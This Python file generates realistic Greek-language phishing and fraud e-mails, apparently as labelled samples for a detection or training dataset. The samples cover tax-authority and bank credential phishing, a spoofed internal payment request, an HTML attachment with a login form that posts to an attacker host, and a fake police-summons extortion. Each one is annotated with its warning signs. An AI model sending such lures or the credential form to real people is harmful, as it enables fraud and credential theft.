# -*- coding: utf-8 -*-
from data.common import *


# ----------------------------------------------------------------- 32 -------
@message('attack', 32, 'el', 'aade-mydata-discrepancy-phish',
         what='Tax-authority / e-invoicing phish: "ΑΑΔΕ - myDATA" claims discrepancies between invoices transmitted to myDATA and the Q3 VAT return and asks the Greek accountant to log in with TAXISnet credentials within 5 working days; sent through Mailgun.',
         why='AADE does not e-mail login links; aade-mydata.gr.com is a look-alike on the gr.com pseudo-TLD, the link host www1.aade.gr-mydata.com only starts like aade.gr; fine threat citing the tax procedure code; bulk ESP. The external accountant\'s genuine myDATA e-mail: business/34.')
def a32():
    rn, ra = S('gr_acc')
    c = ctx('a32', '2026-11-09 10:34:52', 'EET', ra)
    dom = 'aade-mydata.gr.com'
    inf = mailgun(c, 'mg.' + dom)
    frm = 'noreply@' + dom
    url = 'https://www1.aade.gr-mydata.com/taxisnet/mydata/apokliseis?afm=%s&ref=%s' % (AFM_EXAMPLE_GR, tok('a32', 12, '0123456789'))
    text = """Ανεξάρτητη Αρχή Δημοσίων Εσόδων - myDATA

Αξιότιμε/η επιχειρηματία,

Κατά τη διασταύρωση των στοιχείων που έχουν διαβιβαστεί στην ψηφιακή πλατφόρμα myDATA για την επιχείρησή σας

EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Ι.Κ.Ε. - Α.Φ.Μ. %s

με τις υποβληθείσες δηλώσεις ΦΠΑ του γ' τριμήνου 2026, εντοπίστηκαν αποκλίσεις σε 14 παραστατικά πωλήσεων συνολικής αξίας 38.412,60 €.

Σύμφωνα με το άρθρο 54 του ν. 4174/2013 (ΚΦΔ), η μη διαβίβαση ή η εκπρόθεσμη διαβίβαση παραστατικών επισύρει πρόστιμο. Για να αποφύγετε την επιβολή προστίμου, παρακαλούμε να συνδεθείτε με τους κωδικούς TAXISnet και να επιβεβαιώσετε ή να διορθώσετε τις εγγραφές εντός 5 εργάσιμων ημερών:
%s

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Ηλεκτρονικής Διακυβέρνησης
""" % (AFM_EXAMPLE_GR, url)
    parts = text.split('\n\n')
    paras = [mime.esc(p).replace('\n', '<br>') for p in parts[1:5]]
    html = brand_html('Ειδοποίηση αποκλίσεων myDATA', paras, 'Προβολή αποκλίσεων', url,
                      'Ανεξάρτητη Αρχή Δημοσίων Εσόδων · Γενική Διεύθυνση Ηλεκτρονικής Διακυβέρνησης',
                      color='#003476', logo_text='ΑΑΔΕ · myDATA', lang='el', font='Arial, sans-serif')
    body = Multi('alternative', [Text(text, charset='utf-8', cte='base64'), Text(html, 'html', 'utf-8', 'base64')], inf.boundary())
    hs = [('Mime-Version', '1.0'),
          ('Subject', htext('Ειδοποίηση ΑΑΔΕ: Αποκλίσεις στα διαβιβασθέντα παραστατικά myDATA (Α.Φ.Μ. %s)' % AFM_EXAMPLE_GR, 'utf-8', 'B')),
          ('From', addr('ΑΑΔΕ - myDATA', frm, 'utf-8', 'B')),
          ('To', ra),
          ('Date', rfc(c.t, 'UTC')),
          ('Message-Id', inf.msgid)]
    return assemble(c, inf, hs, body, 'bounce+%s.%s-%s=example.com@mg.%s' % (c.hex(6), c.hex(6), ra.split('@')[0], dom), mime_pos=1)


# ----------------------------------------------------------------- 33 -------
@message('attack', 33, 'el', 'internal-domain-spoof-urgent-payment',
         what='Internal BEC with exact-domain spoofing: a message "from" the Greek office manager\'s real address (giorgos.papadopoulos@examplegroup.eu) tells the Greek accountant to make an urgent, confidential EUR 36,800 advance payment to a new PDO feta supplier; Reply-To goes to Gmail.',
         why='The From domain is the company\'s own, but the message arrives from an external VPS instead of the internal relay mail-int01 (SPF/DMARC failure the gateway can detect), Reply-To diverts answers to giorgos.papadopoulos.exg@gmail.com; secrecy towards Kempten, no phone, same-day payment. Genuine urgent internal request from the same person: business/33.')
def a33():
    rn, ra = S('gr_acc')
    c = ctx('a33', '2026-12-03 09:02:19', 'EET', ra)
    gn, ga = S('gr_mgr')
    inf = direct(c, 'mail.hellasfeta-export.com', 'vps-31b7c2a9.vps.ovh.net', '57.128.190.44', msgid_style='outlook16',
                 domain='examplegroup.eu', local_helo='WIN-J8S2KQ1', local_from='unknown [102.165.48.77]', zone='EET')
    text = """Ελένη, καλημέρα.

Είσαι στο γραφείο; Χρειάζομαι να γίνει σήμερα μια επείγουσα πληρωμή προς νέο προμηθευτή φέτας ΠΟΠ – είναι η προκαταβολή για το φορτίο Δεκεμβρίου που κλείσαμε χθες βράδυ με τη Γερμανία. Το ποσό είναι 36.800,00 €.

Θα σου στείλω σε λίγο τα τραπεζικά στοιχεία και το προτιμολόγιο. Μην το συζητήσεις ακόμα με κανέναν, ούτε με το λογιστήριο στο Kempten – θα τους ενημερώσω εγώ μόλις υπογραφεί η σύμβαση.

Είμαι σε σύσκεψη όλο το πρωί και δεν μπορώ να μιλήσω στο τηλέφωνο, απάντησέ μου εδώ.

Ευχαριστώ,
Γιώργος
"""
    body = alt(c, Text(text, charset='windows-1253', cte='quoted-printable'),
               Text(html_outlook(text, 'EL', 'Calibri', 'windows-1253'), 'html', 'windows-1253', 'quoted-printable'),
               boundary=outlook_boundary(c))
    hs = [('From', addr(gn, ga)),
          ('Reply-To', addr(gn, 'giorgos.papadopoulos.exg@gmail.com')),
          ('To', addr(rn, ra)),
          ('Subject', htext('Επείγον - πληρωμή σήμερα', 'windows-1253', 'Q')),
          ('Date', rfc(c.t, 'EET')),
          ('Message-ID', inf.msgid),
          ('MIME-Version', '1.0'),
          ('X-Mailer', 'Microsoft Outlook 16.0'),
          ('Thread-Index', thread_index(c)),
          ('Content-Language', 'el')]
    return assemble(c, inf, hs, body, ga, mime_pos=7)


# ----------------------------------------------------------------- 34 -------
@message('attack', 34, 'el', 'bank-kyc-update-phish',
         what='Bank phish: "Τράπεζα Πειραιώς" tells the Greek office manager that the company\'s KYC data in business e-banking must be updated by 30/11/2026 or outgoing transfers and payroll will be restricted; sent by PHPMailer from a hacked Greek winery website.',
         why='Bank branding from an unrelated compromised website (X-PHP-Script), link to a look-alike host piraeusbank-business.gr-kyc.com, AML law cited to sound official, restriction of payments as threat. Banks collect KYC updates in the e-banking app or branch, not via e-mailed links.')
def a34():
    rn, ra = S('gr_mgr')
    c = ctx('a34', '2026-11-19 11:51:06', 'EET', ra)
    frm = 'noreply@ktima-papazoglou.gr'
    inf = exim_cpanel(c, 'gr-linux-wp12.hostweb.gr', '185.4.134.112', 'ktimapap@gr-linux-wp12.hostweb.gr',
                      script_path='/home/ktimapap/public_html/wp-content/plugins/contact-form-7/includes/mail-2.php',
                      domain='ktima-papazoglou.gr', zone='EET')
    url = 'https://piraeusbank-business.gr-kyc.com/ebanking/kyc/update?cid=%s' % tok('a34', 14, '0123456789')
    text = """Τράπεζα Πειραιώς - Ηλεκτρονική Τραπεζική Επιχειρήσεων

Αγαπητέ πελάτη,

Σύμφωνα με το ισχύον κανονιστικό πλαίσιο για την πρόληψη και καταστολή της νομιμοποίησης εσόδων από εγκληματικές δραστηριότητες (ν. 4557/2018), οφείλετε να επικαιροποιήσετε τα στοιχεία της επιχείρησής σας (KYC) στην ηλεκτρονική τραπεζική έως τις 30/11/2026.

Μετά την παρέλευση της προθεσμίας, οι συναλλαγές μέσω e-banking θα περιοριστούν προσωρινά, συμπεριλαμβανομένων των εξερχόμενων μεταφορών και των πληρωμών μισθοδοσίας.

Η διαδικασία διαρκεί λίγα λεπτά:
%s

Με εκτίμηση,
Τράπεζα Πειραιώς
""" % url
    paras = [mime.esc(p).replace('\n', '<br>') for p in text.split('\n\n')[1:4]]
    html = brand_html('Επικαιροποίηση στοιχείων επιχείρησης', paras, 'Επικαιροποίηση στοιχείων', url,
                      'Τράπεζα Πειραιώς Α.Ε. · Αμερικής 4, 105 64 Αθήνα', color='#ffd400', logo_text='Πειραιώς', lang='el',
                      charset='iso-8859-7')
    html = html.replace('color:#ffffff', 'color:#1d1d1b')
    body = Multi('alternative', [Text(text, charset='iso-8859-7', cte='quoted-printable', quoted=False),
                                 Text(html, 'html', 'iso-8859-7', 'quoted-printable', quoted=False)], php_boundary(c))
    hs = [('Date', rfc(c.t, 'EET')),
          ('To', ra),
          ('From', addr('Piraeus Bank', frm)),
          ('Subject', htext('Ηλεκτρονική Τραπεζική Επιχειρήσεων: Απαιτείται επικαιροποίηση στοιχείων', 'iso-8859-7', 'B')),
          ('Message-ID', inf.msgid),
          ('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
          ('MIME-Version', '1.0')]
    return assemble(c, inf, hs, body, 'ktimapap@gr-linux-wp12.hostweb.gr', extra_pos=0, mime_pos=9)


# ----------------------------------------------------------------- 35 -------
@message('attack', 35, 'el', 'compromised-customer-html-payment-proof',
         what='Compromised customer mailbox: the real OTEnet address of the Greek customer Nikos Dimitriou sends a "Eurobank payment proof" as an HTML attachment that asks for the company e-mail password to "decrypt" it; written from OTE webmail by someone logged in from a foreign IP.',
         why='Genuine sender account (OTEnet) but used through webmail from an Amsterdam hosting IP (X-Originating-IP) instead of his usual Thunderbird from a Greek line (business/32); a payment proof that requires logging in with one\'s own e-mail credentials is credential phishing; the HTML attachment is a login form posting to an attacker host (inert).',
         att_note='HTML attachment with Greek filename (RFC 2231): Eurobank-styled login form (no script)')
def a35():
    rn, ra = S('gr_acc')
    c = ctx('a35', '2026-12-10 19:42:38', 'EET', ra)
    frm = 'n.dimitriou@otenet.gr'
    inf = otenet(c, client_ip='185.107.56.219')
    text = """Καλησπέρα σας κα Καραγιάννη,

Σας επισυνάπτω το αποδεικτικό πληρωμής της Eurobank για τα τιμολόγια Νοεμβρίου (ΤΔΑ 2026/1187 και 2026/1203).

Το έγγραφο είναι κρυπτογραφημένο για λόγους ασφαλείας - για να το δείτε, ανοίξτε το συνημμένο και συνδεθείτε με το email της εταιρείας σας.

Ευχαριστώ,
Νίκος Δημητρίου
Γαλακτοκομικά Δημητρίου
Καλαμαριά, Θεσσαλονίκη
"""
    att = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Eurobank - Αποδεικτικό πληρωμής</title>
<style>body{font-family:Arial,sans-serif;background:#eef1f5}.b{width:400px;margin:70px auto;background:#fff;padding:30px;border-top:5px solid #c8102e}
input{width:100%%;padding:9px;margin:6px 0 14px 0;border:1px solid #bbb}button{background:#c8102e;color:#fff;border:0;padding:10px 26px}</style></head>
<body><div class="b"><h3>Eurobank · Ασφαλής προβολή εγγράφου</h3>
<p>Αποδεικτικό μεταφοράς 2026/1187-1203 (PDF, 1 σελίδα)</p>
<p>Για την προβολή του εγγράφου επιβεβαιώστε το email σας.</p>
<form method="post" action="https://secure-docs.eurobank-viewer.com/el/verify.php">
<input type="email" name="email" value="%s"><input type="password" name="pass" placeholder="Κωδικός email">
<button type="submit">Προβολή εγγράφου</button></form></div>
<!-- inert: exfiltration script removed -->
</body></html>
""" % ra
    body = Multi('mixed', [Text(text, charset='UTF-8', cte='8bit', params='; format=flowed', quoted=False),
                           Bin(att.encode('utf-8'), 'text/html; charset=UTF-8', 'Αποδεικτικό_Πληρωμής_Eurobank.html',
                               name_style='rfc2231', sep=';' + NL + ' ')], '=_' + c.hex(32))
    hs = [('MIME-Version', '1.0'),
          ('Date', rfc(c.t, 'EET')),
          ('From', addr('Νίκος Δημητρίου', frm, 'UTF-8', 'Q')),
          ('To', ra),
          ('Subject', htext('Αποδεικτικό πληρωμής τιμολογίων Νοεμβρίου', 'UTF-8', 'Q')),
          ('Message-ID', inf.msgid)]
    return assemble(c, inf, hs, body, frm, mime_pos=6)


# ----------------------------------------------------------------- 36 -------
@message('attack', 36, 'el', 'fake-police-summons-extortion',
         what='Extortion with a fake police summons: "Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος" accuses the recipient of child-pornography offences, attaches a "summons" PDF and demands "justifications" within 72 hours, offering out-of-court settlement by paying a fine.',
         why='Police do not summon or settle criminal cases by e-mail; sender domain astynomia-gov.com is not astynomia.gr, Reply-To is a Gmail address, shocking accusation + secrecy + deadline to extort money (the follow-up demands a "fine"). Known pan-European scam ("fake Europol/police convocation").',
         att_note='PDF "summons" (Latin script) with fake letterhead and signature')
def a36():
    rn, ra = S('gr_mgr')
    c = ctx('a36', '2026-10-21 13:26:47', 'EET', ra)
    frm = 'dioxi.ilektronikou.egklimatos@astynomia-gov.com'
    inf = direct(c, 'mail.astynomia-gov.com', 'srv688214.hstgr.cloud', '147.93.62.118', msgid_style='python',
                 domain='astynomia-gov.com', zone='EET')
    text = """Κύριε/Κυρία,

Σας επισυνάπτουμε κλήση της Διεύθυνσης Δίωξης Ηλεκτρονικού Εγκλήματος σχετικά με υπόθεση που σας αφορά.

Κατόπιν ηλεκτρονικής έρευνας και κατάσχεσης ψηφιακού υλικού, εντοπίστηκαν από τον ηλεκτρονικό σας λογαριασμό ενέργειες που εμπίπτουν στα άρθρα 348Α και 348Β του Ποινικού Κώδικα.

Παρακαλούμε να μας αποστείλετε τις αιτιολογήσεις σας απαντώντας σε αυτό το μήνυμα εντός 72 ωρών, ώστε να αξιολογηθούν και να εξεταστεί η δυνατότητα εξωδικαστικής διευθέτησης με καταβολή προστίμου. Σε αντίθετη περίπτωση ο φάκελος θα διαβιβαστεί στον αρμόδιο Εισαγγελέα και θα εκδοθεί ένταλμα σύλληψης.

Για λόγους εμπιστευτικότητας, η παρούσα επιστολή δεν πρέπει να κοινοποιηθεί σε τρίτους.

Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος
Ελληνική Αστυνομία
"""
    p = pdf(c, [[(-13, 'HELLENIC POLICE HEADQUARTERS'), (-11, 'CYBER CRIME DIVISION'), (9, 'Leoforos Alexandras 173, 115 22 Athens'), (9, ''),
                 (-12, 'SUMMONS / CONVOCATION'), (10, 'File No. 2026/DHE/11874                        Athens, 21/10/2026'), (10, ''),
                 (10, 'To: ' + ra), (10, ''),
                 (10, 'Following a cyber-infiltration operation authorised by the Public Prosecutor, digital material'),
                 (10, 'associated with your e-mail account was seized. The facts constitute offences under articles'),
                 (10, '348A and 348B of the Greek Penal Code (child pornography, exhibitionism, cyber-solicitation).'), (10, ''),
                 (10, 'You are required to send your written justifications by e-mail within 72 hours so that they can be'),
                 (10, 'assessed and a settlement by payment of a fine can be considered. Otherwise the file will be'),
                 (10, 'forwarded to the competent Prosecutor and an arrest warrant will be issued.'), (10, ''),
                 (10, 'This letter is confidential and must not be disclosed.'), (10, ''),
                 (10, 'Brigadier General, Director of the Cyber Crime Division')]],
            'Summons 2026-DHE-11874', 'Cyber Crime Division', 'Microsoft Word', 'Microsoft: Print To PDF', zone='EET')
    body = Multi('mixed', [Text(text, charset='iso-8859-7', cte='base64'),
                           Bin(p, 'application/pdf', 'Klisi_2026_DHE_11874.pdf', sep='; ')], py_boundary(c))
    hs = [('Subject', htext('ΚΛΗΣΗ - Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος (Αρ. Φακ. 2026/ΔΗΕ/11874)', 'iso-8859-7', 'B')),
          ('From', addr('Δίωξη Ηλεκτρονικού Εγκλήματος', frm, 'iso-8859-7', 'B')),
          ('Reply-To', 'cybercrime.gr.dioxi@gmail.com'),
          ('To', ra),
          ('Date', rfc(c.t, 'EET')),
          ('Message-ID', inf.msgid)]
    return assemble(c, inf, hs, body, frm, mime_pos=0)
